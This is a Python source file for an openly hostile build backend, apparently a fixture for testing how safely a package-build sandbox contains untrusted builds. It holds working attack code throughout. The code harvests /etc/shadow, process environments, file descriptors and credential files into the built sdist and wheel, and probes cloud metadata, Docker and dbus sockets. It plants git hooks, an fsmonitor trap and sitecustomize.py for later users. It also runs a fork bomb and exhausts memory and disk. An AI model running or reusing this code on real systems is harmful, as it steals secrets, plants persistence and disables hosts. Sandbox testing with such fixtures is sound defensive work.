"""A build backend that takes what it can reach and harms what it can; `mode` says how.

"spy" packs all that it could read into a valid sdist and wheel, so that a test can look for
canaries there. The other modes leave a trap in the output folder or use something up.
"""

import base64
import hashlib
import io
import os
import socket
import subprocess
import sys
import tarfile
import time
import zipfile

NAME, VERSION = "loot_package", "1.0"
METADATA = (
    "Metadata-Version: 2.1\nName: loot-package\nVersion: 1.0\nSummary: Loot.\n"
    "Description-Content-Type: text/plain\n\nLoot.\n"
)


def mode():
    with open("mode") as file:
        return file.read().strip()


def build_sdist(folder, settings=None):
    act(mode(), folder)
    loot = spy()
    plant()
    name = f"{NAME}-{VERSION}"
    path = os.path.join(folder, f"{name}.tar.gz")
    own = ("pyproject.toml", "mode", "hostile_backend.py", f"{NAME}/__init__.py",
           "canary_paths", "canary_ports")
    with tarfile.open(path, "w:gz") as archive:
        for file in own:
            archive.add(file, f"{name}/{file}")
        for file, text in (("PKG-INFO", METADATA), ("loot.txt", loot)):
            member = tarfile.TarInfo(f"{name}/{file}")
            member.size = len(text.encode())
            archive.addfile(member, io.BytesIO(text.encode()))
    return os.path.basename(path)


def build_wheel(folder, settings=None, metadata=None):
    info = f"{NAME}-{VERSION}.dist-info"
    files = {
        f"{NAME}/__init__.py": '__version__ = "1.0"\n',
        f"{NAME}/loot.txt": spy(),
        f"{info}/METADATA": METADATA,
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = ""
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        record += f"{name},sha256={digest.decode()},{len(text.encode())}\n"
    files[f"{info}/RECORD"] = record + f"{info}/RECORD,,\n"
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as archive:
        for member, text in files.items():
            archive.writestr(member, text)
    return name


def spy():
    """All that can be read, as text."""
    found = [f"uid {os.getuid()}", f"environment {dict(os.environ)}"]
    places = ["/etc/shadow", "/etc/passwd", "/proc/1/environ", "/proc/1/cmdline", "/proc/kcore"]
    places += [f"/proc/{pid}/{file}" for pid in os.listdir("/proc") if pid.isdigit()
               for file in ("environ", "cmdline")]
    with open("canary_paths") as file:
        places += file.read().splitlines()
    for place in places:
        found.append(f"{place}: {read(place)}")
    for fd in range(3, 64):
        try:
            found.append(f"fd {fd}: {os.pread(fd, 4096, 0)!r}")
        except OSError:
            pass
    for top, folders, files in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(top, f) not in ("/usr", "/proc", "/src")]
        for name in files:
            if name in (".pypirc", ".netrc", "credentials", "canary", "agent.sock"):
                found.append(f"walked to {top}/{name}: {read(os.path.join(top, name))}")
    found += map(connect, targets())
    found.append(f"writable in /proc: {writable('/proc')}")
    return "\n".join(found) + "\nend of loot\n"


def read(place):
    try:
        with open(place, "rb") as file:
            return repr(file.read(4096))
    except OSError as error:
        return f"refused {error.errno}"


def targets():
    with open("canary_ports") as file:
        for port in file.read().split():
            yield socket.AF_INET, ("127.0.0.1", int(port))
    yield socket.AF_INET, ("169.254.169.254", 80)
    yield socket.AF_INET, ("192.0.2.1", 80)
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket"):
        yield socket.AF_UNIX, path
    with open("canary_paths") as file:
        for path in file.read().splitlines():
            yield socket.AF_UNIX, path


def connect(target):
    family, address = target
    with socket.socket(family) as connection:
        connection.settimeout(1)
        try:
            connection.connect(address)
            connection.sendall(b"stolen")
        except OSError as error:
            return f"socket {address}: refused {error.errno}"
        return f"socket {address}: CONNECTED"


def writable(place):
    found = []
    for top, folders, files in os.walk(place):
        if top == place:
            folders[:] = [f for f in folders if not f.isdigit() and "self" not in f]
        found += [f for f in (os.path.join(top, f) for f in files) if os.access(f, os.W_OK)]
    return found


def plant():
    """Traps for whoever uses git, Python or a shell in this tree afterwards."""
    with open("canary_paths") as file:
        target = file.read().splitlines()[0] + ".harmed"
    script = f"#!/bin/sh\ntouch '{target}'\n"
    os.makedirs(".git/hooks", exist_ok=True)
    for name in ("post-checkout", "pre-commit", "reference-transaction"):
        with open(f".git/hooks/{name}", "w") as file:
            file.write(script)
        os.chmod(f".git/hooks/{name}", 0o777)
    with open("monitor", "w") as file:
        file.write(script)
    os.chmod("monitor", 0o777)
    with open(".git/config", "w") as file:
        file.write(f"[core]\nrepositoryformatversion = 0\nfsmonitor = {os.getcwd()}/monitor\n")
    with open("sitecustomize.py", "w") as file:
        file.write(f"open({target!r}, 'w')\n")
    os.mkdir("closed")
    os.mkdir("closed/inner")
    os.symlink("/", "closed/root")
    os.chmod("closed", 0)
    for place in ("/", "/usr", "/proc/sys/kernel/hostname", os.path.dirname(target)):
        try:
            with open(os.path.join(place, "harmed"), "w") as file:
                file.write("harmed")
        except OSError:
            pass


def act(how, folder):
    if how == "spy":
        return
    end = ("print", "forever", "silent", "fork", "memory", "disk", "network", "secrets")
    if how in end:
        globals()[f"act_{how}"](folder)
        sys.exit("it came to its end")
    if how == "setuid":
        os.chmod(folder, 0o6777)
        return
    raise SystemExit(f"no such mode {how}")


def act_print(folder):
    while True:
        print("all work and no play " * 100)


def act_forever(folder):
    print("thinking", flush=True)
    while True:
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)"],
                         start_new_session=True)
        time.sleep(1000)


def act_silent(folder):
    os.close(1)
    os.close(2)
    time.sleep(1000)


def act_fork(folder):
    while True:
        if os.fork() == 0:
            time.sleep(1000)


def act_memory(folder):
    kept = []
    while True:
        kept.append(os.urandom(1 << 20))


def act_disk(folder):
    number = 0
    while True:
        number += 1
        with open(os.path.join(folder, f"{number}.bin"), "wb") as file:
            file.write(os.urandom(1 << 20))


def act_network(folder):
    socket.create_connection(("192.0.2.1", 443), 5)


def act_secrets(folder):
    print("\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x1b\\a link\x1b]8;;\x1b\\")
    print("token is pypi-AgEIcHlwaS5vcmcCJDAwMDAwMDAwLTAwMDAtMDAwMC0wMDAw")
    print("password=hunter2hunter2")
